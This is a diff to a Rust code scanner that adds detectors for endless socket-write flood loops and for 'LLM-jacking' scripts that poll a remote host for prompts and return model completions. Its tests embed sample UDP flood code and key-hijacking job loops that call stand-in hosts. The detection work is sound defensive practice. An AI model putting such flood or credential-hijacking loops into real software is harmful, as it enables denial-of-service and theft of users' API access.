@@ -41,7 +41,7 @@ pub(crate) static FOREVER: crate::rx::Lazy = crate::rx::Lazy::new(
 );
 /// The prompt or model comes from a received object, not from the code.
 static JOB_FIELDS: crate::rx::Lazy = crate::rx::Lazy::new(
-    r#"\[\s*["'](messages|prompt|body|payload)["']\s*\]|\.get\(\s*["'](messages|prompt|model|max_tokens)["']|\b[a-z]\w*\.(messages|prompt)\s*[,}\)]"#,
+    r#"\[\s*["'](messages|prompt|body|payload)["']\s*\]|\.get\(\s*["'](messages|prompt|model|max_tokens)["']|\b[a-z]\w*\.(messages|prompt)\s*[,}\)]|\b[a-z]\w*\.(Messages|Prompt)\b"#,
 );
 /// A path or host that hands out work.
 static JOBISH: crate::rx::Lazy =
@@ -102,7 +102,11 @@ pub fn scan(src: &Src, sink: &mut Sink) {
         || JOBISH.is_match(line_of(text, *start))
         || constant_paths_jobish(text, line_of(text, *start))
         || round_trip(src.path, text, line_of(text, *start));
-    if forever && uses_llm && jobish && JOB_FIELDS.is_match(text) {
+    if forever
+        && uses_llm
+        && JOB_FIELDS.is_match(text)
+        && (jobish || polled_for_work(text, url, line_of(text, *start)))
+    {
         let ev = Evidence::new(Op::NetSend, A::Transfer, R::Network, *url)
             .tag(Tag::RemoteJobs)
             .instrument("model API")
@@ -208,6 +212,39 @@ fn round_trip(path: &str, text: &str, line: &str) -> bool {
     false
 }
 
+/// Round 30: the server is polled inside a loop that never ends, and the
+/// same loop body reads the fields of a job from what came back
+/// (`while True: job = json.load(urlopen(CALIBRATION)); chat(…,
+/// job["messages"])`): a work queue by structure, whatever its URL says.
+fn polled_for_work(text: &str, url: &str, line: &str) -> bool {
+    let name = CONST_NAME
+        .captures(line)
+        .and_then(|c| c.get(1))
+        .map(|m| m.as_str());
+    for (k, f) in FOREVER.find_iter(text).enumerate() {
+        if k == crate::limits::FANOUT_MAX_LOOPS {
+            crate::limits::gave_up("FANOUT_MAX_LOOPS");
+            return false;
+        }
+        // The whole body (a poll may sit anywhere in it); at most
+        // FANOUT_MAX_LOOPS loops, so the reading stays linear per loop.
+        let (body, _) = super::fanout::body_until(text, f.start(), f.end(), text.len());
+        let polls = body.contains(url) || name.is_some_and(|n| names_word(body, n));
+        if polls && JOB_FIELDS.is_match(body) && REPLY_FIELD.is_match(body) {
+            return true;
+        }
+    }
+    false
+}
+
+/// Where the job says its result goes (`job["reply_to"]`,
+/// `job.callbackUrl`, `job.ReplyTo`): the server picks the destination of
+/// the completion, so the result is handed back (a status poll hands
+/// nothing back).
+static REPLY_FIELD: crate::rx::Lazy = crate::rx::Lazy::new(
+    r#"(?i)\[\s*["'](?:reply_?to|reply_?url|callback(?:_?url)?|result_?url|return_?url|webhook(?:_?url)?|respond_?to|post_?back)["']\s*\]|\.get\(\s*["'](?:reply_?to|reply_?url|callback(?:_?url)?|result_?url|return_?url|webhook(?:_?url)?|respond_?to)["']|\b[a-z]\w*\.(?:reply_?to|reply_?url|callback_?url|result_?url|return_?url|webhook_?url|respond_?to)\b"#,
+);
+
 /// Whether `l` names `name` as a whole word.
 fn names_word(l: &str, name: &str) -> bool {
     l.match_indices(name).any(|(i, _)| {
@@ -219,7 +256,7 @@ fn names_word(l: &str, name: &str) -> bool {
 }
 
 static ROUND_GET: crate::rx::Lazy =
-    crate::rx::Lazy::new(r"\.get\(|fetch\(|urlopen\(|https?\.get\(|Invoke-RestMethod|curl");
+    crate::rx::Lazy::new(r"\.get\(|\bfetch\(|urlopen\(|\bhttps?\.get\(|Invoke-RestMethod|\bcurl\b");
 static ROUND_SEND: crate::rx::Lazy = crate::rx::Lazy::new(
     r#"(?i)\.(post|put|patch)\(|method\s*[:=]\s*["'](POST|PUT|PATCH)|-X\s*(POST|PUT)|-Method\s+(Post|Put)|\b(data|json|body)\s*[=:]\s*\S|--data\b|-d\s"#,
 );
@@ -289,7 +326,7 @@ pub fn runaway_loops(src: &Src, sink: &mut Sink) {
             return;
         }
         let body = super::fanout::loop_body(text, f.start(), f.end());
-        if !REQUEST.is_match(body) || PACE.is_match(body) || BREAKS.is_match(body) {
+        if PACE.is_match(body) || BREAKS.is_match(body) {
             continue;
         }
         // The worker that runs the loop: around it (`go func(u) { for {`),
@@ -300,7 +337,11 @@ pub fn runaway_loops(src: &Src, sink: &mut Sink) {
             f.start().saturating_sub(super::fanout::WINDOW),
             body_end + super::fanout::WINDOW,
         );
-        if !WORKER.is_match(around) {
+        // A request, or a write on a socket the worker dialled
+        // (`c, _ := net.Dial("udp", t)` then `for { c.Write(q) }`,
+        // `s.sendto(b, t)`, `sock.send(buf)`).
+        let writes = SOCKET_WRITE.is_match(body) && SOCKET_DIAL.is_match(around);
+        if !(REQUEST.is_match(body) || writes) || !WORKER.is_match(around) {
             continue;
         }
         let (ls, le) = super::burn::line_span(text, f.start());
@@ -319,6 +360,21 @@ pub fn runaway_loops(src: &Src, sink: &mut Sink) {
 
 /// Workers in a pool at least this large make a flood of endless loops.
 const MIN_WORKERS: u64 = 50;
+
+/// Bytes written to a connection, in every language: Go `c.Write(q)`,
+/// `WriteTo`, Python `sendto`/`send`/`sendall`, Node `sock.send(`,
+/// `socket.write(`, .NET `UdpClient.Send(`, Ruby `send`, Rust
+/// `send_to(`.
+static SOCKET_WRITE: crate::rx::Lazy = crate::rx::Lazy::new(
+    r"\.(?:Write|WriteTo|WriteToUDP|Send|SendTo|send|sendto|sendall|send_to|write|syswrite)\s*\(|\bsendto\s*\(",
+);
+/// A connection dialled: a datagram socket ([`DATAGRAM`]) or a stream one
+/// (`net.Dial("tcp"`, `socket.socket(`, `net.createConnection(`,
+/// `new net.Socket(`, `TcpClient`, `TcpStream::connect`, `TCPSocket.new`,
+/// `fsockopen(`, `IO::Socket::INET`).
+static SOCKET_DIAL: crate::rx::Lazy = crate::rx::Lazy::new(
+    r#"(?i)\bDial(?:Timeout|UDP|TCP)?\(\s*"(?:udp|tcp)|\bsocket\.socket\(|\bnet\.(?:createConnection|connect)\(|\bnew\s+(?:net\.)?Socket\(|dgram\.createSocket|\b(?:Udp|Tcp)Client\b|\b(?:Udp|Tcp)(?:Socket|Stream)::(?:bind|connect)|\b(?:UDP|TCP)Socket\.(?:new|open)|\bfsockopen\(|IO::Socket::INET|\bSOCK_(?:DGRAM|STREAM)\b"#,
+);
 
 /// A worker started around the loop: a goroutine, a thread, a task.
 static WORKER: crate::rx::Lazy = crate::rx::Lazy::new(
@@ -612,6 +668,55 @@ mod tests {
         // job body never sent to a model API.
         let quiet = "NET = 'https://net.mesh.example/api'\nwhile True:\n    s = requests.get(f'{NET}/status').json()\n    print(s['body'])\n    time.sleep(60)\n";
         assert!(run("q.py", quiet).is_empty());
+    }
+
+    fn runaway(path: &str, text: &str) -> Vec<Evidence> {
+        let mut sink = Sink::default();
+        runaway_loops(&Src::new(path, text, Origin::Script), &mut sink);
+        sink.items
+    }
+
+    #[test]
+    fn socket_writes_forever_from_many_workers_are_a_flood() {
+        let go = "var pool = []string{\"203.0.113.40:53\"}\nfunc load(q []byte) {\n\tfor i := 0; i < 4096; i++ {\n\t\tgo func(i int) {\n\t\t\tc, err := net.Dial(\"udp\", pool[i%len(pool)])\n\t\t\tif err != nil {\n\t\t\t\treturn\n\t\t\t}\n\t\t\tfor {\n\t\t\t\tc.Write(q)\n\t\t\t}\n\t\t}(i)\n\t}\n}\n";
+        assert_eq!(runaway("m.go", go).len(), 1);
+        let py = "def hit():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    while True:\n        s.sendto(PAYLOAD, TARGET)\n\nfor _ in range(400):\n    threading.Thread(target=hit).start()\n";
+        assert_eq!(runaway("f.py", py).len(), 1);
+        // Bounded: a paced loop, or a few workers.
+        let paced = go.replace("c.Write(q)", "c.Write(q)\n\t\t\t\ttime.Sleep(time.Second)");
+        assert!(runaway("m.go", &paced).is_empty());
+        let few = go.replace("4096", "4");
+        assert!(runaway("m.go", &few).is_empty());
+    }
+
+    #[test]
+    fn a_server_polled_forever_for_prompts_is_jobs_whatever_its_url_says() {
+        let py = "API = \"https://api.openai.com/v1/chat/completions\"\nCALIBRATION = \"https://rubric-calibration.example/v1/next\"\nKEY = os.environ[\"OPENAI_API_KEY\"]\ndef calibrate():\n    while True:\n        try:\n            with urllib.request.urlopen(CALIBRATION, timeout=30) as r:\n                job = json.load(r)\n            out = chat(job.get(\"model\", \"gpt-4o\"), job[\"messages\"])\n            urlopen(Request(job[\"reply_to\"], data=out.encode()))\n        except Exception:\n            time.sleep(1)\n";
+        assert!(
+            run("r.py", py)
+                .iter()
+                .any(|e| e.object.contains("LLM-jacking"))
+        );
+        let js = "const REF = 'https://ref-sync.example/v1/next';\nconst key = process.env.OPENAI_API_KEY;\nasync function loop() {\n  for (;;) {\n    const job = await (await fetch(REF)).json();\n    const out = await openai.chat.completions.create({ model: 'gpt-4o', messages: job.messages });\n    await fetch(job.replyTo, { method: 'POST', body: JSON.stringify(out) });\n  }\n}\n";
+        assert!(
+            run("r.mjs", js)
+                .iter()
+                .any(|e| e.object.contains("LLM-jacking"))
+        );
+        let go = "const ref = \"https://ref-sync.example/v1/next\"\nvar key = os.Getenv(\"ANTHROPIC_API_KEY\")\nfunc work() {\n\tfor {\n\t\tr, _ := http.Get(ref)\n\t\tvar job Job\n\t\tjson.NewDecoder(r.Body).Decode(&job)\n\t\tout := complete(\"https://api.anthropic.com/v1/messages\", job.Messages)\n\t\thttp.Post(job.ReplyTo, \"text/plain\", out)\n\t}\n}\n";
+        assert!(
+            run("w.go", go)
+                .iter()
+                .any(|e| e.object.contains("LLM-jacking"))
+        );
+        // Near miss: the user's own cases, read once from a file; a status
+        // poll whose answer has no prompt.
+        let own = "API = \"https://api.openai.com/v1/chat/completions\"\nKEY = os.environ[\"OPENAI_API_KEY\"]\nSTATUS = \"https://status.example/v1/ok\"\nfor line in open(args.cases):\n    case = json.loads(line)\n    chat(case[\"messages\"])\nwhile True:\n    s = json.load(urlopen(STATUS))\n    print(s[\"state\"])\n    time.sleep(60)\n";
+        assert!(
+            run("own.py", own)
+                .iter()
+                .all(|e| !e.object.contains("LLM-jacking"))
+        );
     }
 
     #[test]
